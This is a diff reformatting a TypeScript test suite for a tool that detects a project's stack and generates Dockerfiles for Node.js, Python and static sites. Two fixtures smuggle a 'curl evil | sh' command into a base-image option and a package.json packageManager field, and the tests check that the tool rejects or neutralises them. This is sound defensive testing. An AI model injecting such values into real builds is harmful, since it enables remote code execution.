@@ -16,7 +16,12 @@ afterAll(async () => {
   await rm(scratch, { recursive: true, force: true });
 });
 
-const NO_DEPENDENCIES_LOCK = JSON.stringify({ name: 'app', lockfileVersion: 3, requires: true, packages: { '': { name: 'app' } } });
+const NO_DEPENDENCIES_LOCK = JSON.stringify({
+  name: 'app',
+  lockfileVersion: 3,
+  requires: true,
+  packages: { '': { name: 'app' } },
+});
 
 /** A fixture project: a fresh directory holding the given files. */
 async function project(files: Record<string, string>): Promise<string> {
@@ -45,9 +50,18 @@ async function refusal(promise: Promise<unknown>): Promise<DomainError> {
 describe("a project's own Dockerfile", () => {
   it('always wins and is used as it is, with nothing generated', async () => {
     const own = 'FROM busybox\nCMD ["echo", "mine"]\n';
-    const dir = await project({ Dockerfile: own, 'package.json': packageJson({ scripts: { start: 'node x.js' } }), 'index.html': '' });
+    const dir = await project({
+      Dockerfile: own,
+      'package.json': packageJson({ scripts: { start: 'node x.js' } }),
+      'index.html': '',
+    });
     const recipe = await generateDockerfile(dir);
-    expect(recipe).toEqual({ stack: { kind: 'dockerfile', notes: ['the project has its own Dockerfile, used as it is'] }, dockerfilePath: 'Dockerfile', dockerfile: own, files: {} });
+    expect(recipe).toEqual({
+      stack: { kind: 'dockerfile', notes: ['the project has its own Dockerfile, used as it is'] },
+      dockerfilePath: 'Dockerfile',
+      dockerfile: own,
+      files: {},
+    });
   });
 });
 
@@ -97,7 +111,9 @@ describe('Node.js apps', () => {
   });
 
   it('runs a start script that needs a shell, or has hooks, with npm start, and says what that costs', async () => {
-    const shellScript = await project({ 'package.json': packageJson({ scripts: { start: 'node migrate.js && node server.js' } }) });
+    const shellScript = await project({
+      'package.json': packageJson({ scripts: { start: 'node migrate.js && node server.js' } }),
+    });
     const recipe = await generateDockerfile(shellScript);
     expect(recipe.stack).toMatchObject({ start: { script: 'start' } });
     expect(recipe.stack.notes).toContain(
@@ -118,27 +134,42 @@ describe('Node.js apps', () => {
       expect(stack.kind === 'node' && stack.start).toEqual({ script: 'start' });
       expect(dockerfile.endsWith('CMD ["npm","start"]\n')).toBe(true);
     }
-    const execScript = await detectStack(await project({ 'package.json': packageJson({ scripts: { start: 'exec node "my server.js"' } }) }));
+    const execScript = await detectStack(
+      await project({ 'package.json': packageJson({ scripts: { start: 'exec node "my server.js"' } }) }),
+    );
     expect(execScript.notes).toEqual(['no lockfile for npm: dependencies are resolved afresh on every build']);
 
-    expect(await detectStack(await project({ 'package.json': packageJson({ scripts: { start: 'exec node server.js' } }) }))).toMatchObject({
+    expect(
+      await detectStack(await project({ 'package.json': packageJson({ scripts: { start: 'exec node server.js' } }) })),
+    ).toMatchObject({
       start: { script: 'start', command: ['node', 'server.js'] },
     });
-    const binary = await generateDockerfile(await project({ 'package.json': packageJson({ scripts: { start: 'next start -p 3000' } }) }));
+    const binary = await generateDockerfile(
+      await project({ 'package.json': packageJson({ scripts: { start: 'next start -p 3000' } }) }),
+    );
     expect(binary.dockerfile).toContain('\nENV PATH=/app/node_modules/.bin:$PATH\n');
     expect(binary.dockerfile.endsWith('CMD ["next","start","-p","3000"]\n')).toBe(true);
   });
 
   it('takes the base image and port it is given', async () => {
     const dir = await project({ 'package.json': packageJson({ scripts: { start: 'node server.js' } }) });
-    const { dockerfile } = await generateDockerfile(dir, { baseImage: 'registry.example.com/node:20-slim', port: 8080 });
+    const { dockerfile } = await generateDockerfile(dir, {
+      baseImage: 'registry.example.com/node:20-slim',
+      port: 8080,
+    });
     expect(dockerfile).toContain('\nFROM registry.example.com/node:20-slim\n');
     expect(dockerfile).toContain('\nENV PORT=8080\nEXPOSE 8080\n');
   });
 
   it('refuses a base image or port that could not be written into a Dockerfile', async () => {
     const dir = await project({ 'package.json': packageJson({ scripts: { start: 'node server.js' } }) });
-    for (const options of [{ baseImage: 'node:20\nRUN curl evil | sh' }, { baseImage: 'node 20' }, { port: 0 }, { port: 70000 }, { port: 30.5 }]) {
+    for (const options of [
+      { baseImage: 'node:20\nRUN curl evil | sh' },
+      { baseImage: 'node 20' },
+      { port: 0 },
+      { port: 70000 },
+      { port: 30.5 },
+    ]) {
       expect((await refusal(generateDockerfile(dir, options))).code).toBe('validation_failed');
     }
   });
@@ -150,8 +181,15 @@ describe('Node.js apps', () => {
       '.npmrc': 'engine-strict=true\n',
     });
     const { stack, dockerfile } = await generateDockerfile(dir);
-    expect(stack).toMatchObject({ kind: 'node', start: { main: 'dist/index.js' }, build: true, configFiles: ['.npmrc'] });
-    expect(dockerfile).toContain('\nCOPY package.json package-lock.json .npmrc ./\nRUN npm ci\nCOPY . .\nRUN npm run build && npm prune --omit=dev\n');
+    expect(stack).toMatchObject({
+      kind: 'node',
+      start: { main: 'dist/index.js' },
+      build: true,
+      configFiles: ['.npmrc'],
+    });
+    expect(dockerfile).toContain(
+      '\nCOPY package.json package-lock.json .npmrc ./\nRUN npm ci\nCOPY . .\nRUN npm run build && npm prune --omit=dev\n',
+    );
     expect(dockerfile).toContain('built with its build script, started with "node dist/index.js"');
     expect(dockerfile.endsWith('CMD ["node","dist/index.js"]\n')).toBe(true);
   });
@@ -175,7 +213,10 @@ describe('Node.js apps', () => {
   });
 
   it('yarn 1: installed from the registry, a frozen lockfile and production dependencies only', async () => {
-    const dir = await project({ 'package.json': packageJson({ scripts: { start: 'node server.js' } }), 'yarn.lock': '# yarn lockfile v1\n' });
+    const dir = await project({
+      'package.json': packageJson({ scripts: { start: 'node server.js' } }),
+      'yarn.lock': '# yarn lockfile v1\n',
+    });
     const { stack, dockerfile } = await generateDockerfile(dir);
     expect(stack).toMatchObject({ packageManager: 'yarn', lockfile: 'yarn.lock' });
     expect(dockerfile).toContain('\nRUN npm install --global yarn@1\n');
@@ -183,7 +224,7 @@ describe('Node.js apps', () => {
     expect(dockerfile.endsWith('CMD ["node","server.js"]\n')).toBe(true);
   });
 
-  it('yarn 2+ (a __metadata lockfile): immutable install into node_modules rather than Plug\'n\'Play', async () => {
+  it("yarn 2+ (a __metadata lockfile): immutable install into node_modules rather than Plug'n'Play", async () => {
     const dir = await project({
       'package.json': packageJson({ scripts: { start: 'node server.js', build: 'tsc' } }),
       'yarn.lock': '# This file is generated by running "yarn install"\n\n__metadata:\n  version: 8\n',
@@ -193,12 +234,18 @@ describe('Node.js apps', () => {
     expect(stack).toMatchObject({ packageManager: 'yarn-berry', configFiles: ['.yarnrc.yml'] });
     expect(dockerfile).toContain('\nRUN npm install --global @yarnpkg/cli-dist@4\n');
     expect(dockerfile).toContain('\nENV YARN_NODE_LINKER=node-modules\n');
-    expect(dockerfile).toContain('\nCOPY package.json yarn.lock .yarnrc.yml ./\nRUN yarn install --immutable\nCOPY . .\nRUN yarn run build\n');
+    expect(dockerfile).toContain(
+      '\nCOPY package.json yarn.lock .yarnrc.yml ./\nRUN yarn install --immutable\nCOPY . .\nRUN yarn run build\n',
+    );
   });
 
   it('pnpm as package.json names it, even beside a stray package-lock.json; engines is only a note', async () => {
     const dir = await project({
-      'package.json': packageJson({ packageManager: 'pnpm@9.12.0', engines: { node: '>=22' }, scripts: { start: 'node server.js', build: 'vite build' } }),
+      'package.json': packageJson({
+        packageManager: 'pnpm@9.12.0',
+        engines: { node: '>=22' },
+        scripts: { start: 'node server.js', build: 'vite build' },
+      }),
       'pnpm-lock.yaml': "lockfileVersion: '9.0'\n",
       'package-lock.json': NO_DEPENDENCIES_LOCK,
     });
@@ -209,18 +256,30 @@ describe('Node.js apps', () => {
       'package.json asks for Node.js ">=22"; the app runs on the base image\'s Node.js',
     ]);
     expect(dockerfile).toContain('\nRUN npm install --global pnpm@9.12.0\n');
-    expect(dockerfile).toContain('\nCOPY package.json pnpm-lock.yaml ./\nRUN pnpm install --frozen-lockfile\nCOPY . .\nRUN pnpm run build && pnpm prune --prod\n');
+    expect(dockerfile).toContain(
+      '\nCOPY package.json pnpm-lock.yaml ./\nRUN pnpm install --frozen-lockfile\nCOPY . .\nRUN pnpm run build && pnpm prune --prod\n',
+    );
   });
 
-  it("installs the exact yarn or pnpm version package.json names, and nothing else from that field", async () => {
-    const berry = await project({ 'package.json': packageJson({ packageManager: 'yarn@4.5.0+sha512.0123abcd', scripts: { start: 'node .' } }), 'yarn.lock': '' });
+  it('installs the exact yarn or pnpm version package.json names, and nothing else from that field', async () => {
+    const berry = await project({
+      'package.json': packageJson({ packageManager: 'yarn@4.5.0+sha512.0123abcd', scripts: { start: 'node .' } }),
+      'yarn.lock': '',
+    });
     expect(await detectStack(berry)).toMatchObject({ packageManager: 'yarn-berry', packageManagerVersion: '4.5.0' });
-    expect((await generateDockerfile(berry)).dockerfile).toContain('\nRUN npm install --global @yarnpkg/cli-dist@4.5.0\n');
+    expect((await generateDockerfile(berry)).dockerfile).toContain(
+      '\nRUN npm install --global @yarnpkg/cli-dist@4.5.0\n',
+    );
 
-    const hostile = await project({ 'package.json': packageJson({ packageManager: 'pnpm@9.0.0; curl evil | sh', scripts: { start: 'node .' } }), 'pnpm-lock.yaml': '' });
+    const hostile = await project({
+      'package.json': packageJson({ packageManager: 'pnpm@9.0.0; curl evil | sh', scripts: { start: 'node .' } }),
+      'pnpm-lock.yaml': '',
+    });
     const { stack, dockerfile } = await generateDockerfile(hostile);
     expect(stack).toMatchObject({ packageManager: 'pnpm', packageManagerVersion: undefined });
-    expect(stack.notes).toContain('package.json\'s packageManager "pnpm@9.0.0; curl evil | sh" is not understood: the lockfiles decide');
+    expect(stack.notes).toContain(
+      'package.json\'s packageManager "pnpm@9.0.0; curl evil | sh" is not understood: the lockfiles decide',
+    );
     expect(dockerfile).toContain('\nRUN npm install --global pnpm@9\n');
     expect(dockerfile).not.toContain('curl');
   });
@@ -231,8 +290,12 @@ describe('Node.js apps', () => {
       'package-lock.json': NO_DEPENDENCIES_LOCK,
       'packages/web/package.json': packageJson({ name: 'web' }),
     });
-    const local = await project({ 'package.json': packageJson({ dependencies: { util: 'file:vendor/util' }, scripts: { start: 'node .' } }) });
-    const registryOnly = await project({ 'package.json': packageJson({ dependencies: { express: '^5.0.0' }, scripts: { start: 'node .' } }) });
+    const local = await project({
+      'package.json': packageJson({ dependencies: { util: 'file:vendor/util' }, scripts: { start: 'node .' } }),
+    });
+    const registryOnly = await project({
+      'package.json': packageJson({ dependencies: { express: '^5.0.0' }, scripts: { start: 'node .' } }),
+    });
     for (const dir of [workspaces, local]) {
       const { dockerfile } = await generateDockerfile(dir);
       expect(dockerfile).toMatch(/\nCOPY \. \.\nRUN npm (ci|install) --omit=dev\nENV NODE_ENV=production\n/);
@@ -249,7 +312,10 @@ describe('Node.js apps', () => {
       expect(error.details).toEqual([{ file: 'package.json', field: 'main', reason: 'unsafe_path' }]);
     }
     const broken = await project({ 'package.json': '{"name": ' });
-    expect(await refusal(generateDockerfile(broken))).toMatchObject({ code: 'validation_failed', details: [{ file: 'package.json', reason: 'invalid_json' }] });
+    expect(await refusal(generateDockerfile(broken))).toMatchObject({
+      code: 'validation_failed',
+      details: [{ file: 'package.json', reason: 'invalid_json' }],
+    });
   });
 });
 
@@ -260,7 +326,14 @@ describe('Python apps', () => {
       'app.py': 'from flask import Flask\n\napp = Flask(__name__)\n\n@app.get("/")\ndef home():\n    return "hi"\n',
     });
     const recipe = await generateDockerfile(dir);
-    expect(recipe.stack).toEqual({ kind: 'python', dependencies: 'requirements.txt', server: 'gunicorn', app: 'app:app', entry: 'app.py', notes: [] });
+    expect(recipe.stack).toEqual({
+      kind: 'python',
+      dependencies: 'requirements.txt',
+      server: 'gunicorn',
+      app: 'app:app',
+      entry: 'app.py',
+      notes: [],
+    });
     expect(recipe.dockerfile).toBe(
       [
         '# Generated by the platform for a Python app: dependencies from requirements.txt, the WSGI application app:app served by gunicorn.',
@@ -289,11 +362,18 @@ describe('Python apps', () => {
   });
 
   it('a FastAPI app (annotated) in main.py: uvicorn on $PORT, the app name passed as an argument', async () => {
-    const dir = await project({ 'requirements.txt': 'fastapi\n', 'main.py': 'import fastapi\n\napi: fastapi.FastAPI = fastapi.FastAPI(title="x")\n' });
+    const dir = await project({
+      'requirements.txt': 'fastapi\n',
+      'main.py': 'import fastapi\n\napi: fastapi.FastAPI = fastapi.FastAPI(title="x")\n',
+    });
     const { stack, dockerfile } = await generateDockerfile(dir);
     expect(stack).toMatchObject({ server: 'uvicorn', app: 'main:api' });
     expect(dockerfile).toContain('RUN python -c "import uvicorn" 2>/dev/null || pip install uvicorn\n');
-    expect(dockerfile.endsWith('CMD ["sh","-c","exec python -m uvicorn \\"$0\\" --host 0.0.0.0 --port \\"$PORT\\"","main:api"]\n')).toBe(true);
+    expect(
+      dockerfile.endsWith(
+        'CMD ["sh","-c","exec python -m uvicorn \\"$0\\" --host 0.0.0.0 --port \\"$PORT\\"","main:api"]\n',
+      ),
+    ).toBe(true);
   });
 
   it('a Starlette app in a package with pyproject.toml: the project is installed with pip', async () => {
@@ -303,7 +383,12 @@ describe('Python apps', () => {
       'app/main.py': 'from starlette.applications import Starlette\n\napplication = Starlette(routes=[])\n',
     });
     const { stack, dockerfile } = await generateDockerfile(dir);
-    expect(stack).toMatchObject({ dependencies: 'pyproject.toml', server: 'uvicorn', app: 'app.main:application', entry: 'app/main.py' });
+    expect(stack).toMatchObject({
+      dependencies: 'pyproject.toml',
+      server: 'uvicorn',
+      app: 'app.main:application',
+      entry: 'app/main.py',
+    });
     expect(dockerfile).toContain('\nENV PATH=/opt/venv/bin:$PATH\nCOPY . .\nRUN pip install .\n');
   });
 
@@ -314,11 +399,18 @@ describe('Python apps', () => {
       'mysite/__init__.py': '',
       'mysite/wsgi.py': 'from django.core.wsgi import get_wsgi_application\n\napplication = get_wsgi_application()\n',
     });
-    expect(await detectStack(dir)).toMatchObject({ kind: 'python', server: 'gunicorn', app: 'mysite.wsgi:application' });
+    expect(await detectStack(dir)).toMatchObject({
+      kind: 'python',
+      server: 'gunicorn',
+      app: 'mysite.wsgi:application',
+    });
   });
 
   it('takes the Python base image from PLATFORM_PYTHON_BASE_IMAGE', async () => {
-    const dir = await project({ 'requirements.txt': '', 'wsgi.py': 'from flask import Flask\napp = Flask(__name__)\n' });
+    const dir = await project({
+      'requirements.txt': '',
+      'wsgi.py': 'from flask import Flask\napp = Flask(__name__)\n',
+    });
     process.env.PLATFORM_PYTHON_BASE_IMAGE = 'registry.example.com/python:3.12-slim';
     try {
       expect((await generateDockerfile(dir)).dockerfile).toContain('\nFROM registry.example.com/python:3.12-slim\n');
@@ -330,7 +422,10 @@ describe('Python apps', () => {
 
 describe('static sites', () => {
   it('serves dist/ with the platform file server, copied into the build', async () => {
-    const dir = await project({ 'dist/index.html': '<h1>hi</h1>', 'index.html': '<script src="/src/main.ts"></script>' });
+    const dir = await project({
+      'dist/index.html': '<h1>hi</h1>',
+      'index.html': '<script src="/src/main.ts"></script>',
+    });
     const recipe = await generateDockerfile(dir, { port: 8080 });
     expect(recipe.stack).toEqual({ kind: 'static', root: 'dist', notes: [] });
     expect(recipe.dockerfile).toBe(
@@ -347,20 +442,31 @@ describe('static sites', () => {
         '',
       ].join('\n'),
     );
-    expect(recipe.files['.platform-build/static-server.js']).toBe(await readFile(join(__dirname, 'static-server.js'), 'utf8'));
+    expect(recipe.files['.platform-build/static-server.js']).toBe(
+      await readFile(join(__dirname, 'static-server.js'), 'utf8'),
+    );
   });
 
   it('serves the project itself for an index.html at the root, and public/ before it', async () => {
-    expect((await generateDockerfile(await project({ 'index.html': '' }))).dockerfile).toContain('\nCOPY . /srv/site/\n');
-    expect(await detectStack(await project({ 'public/index.html': '', 'index.html': '' }))).toMatchObject({ root: 'public' });
+    expect((await generateDockerfile(await project({ 'index.html': '' }))).dockerfile).toContain(
+      '\nCOPY . /srv/site/\n',
+    );
+    expect(await detectStack(await project({ 'public/index.html': '', 'index.html': '' }))).toMatchObject({
+      root: 'public',
+    });
   });
 
   it('takes a package.json that cannot start anything, beside a site, for a static site, and says so', async () => {
-    const dir = await project({ 'package.json': packageJson({ scripts: { lint: 'eslint .' } }), 'public/index.html': '' });
+    const dir = await project({
+      'package.json': packageJson({ scripts: { lint: 'eslint .' } }),
+      'public/index.html': '',
+    });
     expect(await detectStack(dir)).toEqual({
       kind: 'static',
       root: 'public',
-      notes: ['package.json without a start script, a main file, server.js or index.js: serving public/ as a static site'],
+      notes: [
+        'package.json without a start script, a main file, server.js or index.js: serving public/ as a static site',
+      ],
     });
   });
 });
@@ -397,7 +503,10 @@ describe('projects the platform cannot build', () => {
 
   it('refuse a project that already uses the name of the generated directory', async () => {
     const dir = await project({ 'index.html': '', '.platform-build/notes.txt': '' });
-    expect(await refusal(generateDockerfile(dir))).toMatchObject({ code: 'validation_failed', details: [{ file: '.platform-build', reason: 'reserved_name' }] });
+    expect(await refusal(generateDockerfile(dir))).toMatchObject({
+      code: 'validation_failed',
+      details: [{ file: '.platform-build', reason: 'reserved_name' }],
+    });
   });
 });
 
@@ -405,7 +514,10 @@ describe('writeBuildFiles', () => {
   it("writes the generated files, keeping the project's own .dockerignore, and never overwrites", async () => {
     const dir = await project({ 'index.html': '<h1>hi</h1>', '.dockerignore': 'secrets/\n' });
     const recipe = await generateDockerfile(dir);
-    expect(Object.keys(recipe.files).sort()).toEqual(['.platform-build/Dockerfile', '.platform-build/static-server.js']);
+    expect(Object.keys(recipe.files).sort()).toEqual([
+      '.platform-build/Dockerfile',
+      '.platform-build/static-server.js',
+    ]);
     await writeBuildFiles(dir, recipe);
     expect((await readdir(join(dir, '.platform-build'))).sort()).toEqual(['Dockerfile', 'static-server.js']);
     expect(await readFile(join(dir, '.platform-build', 'Dockerfile'), 'utf8')).toBe(recipe.dockerfile);
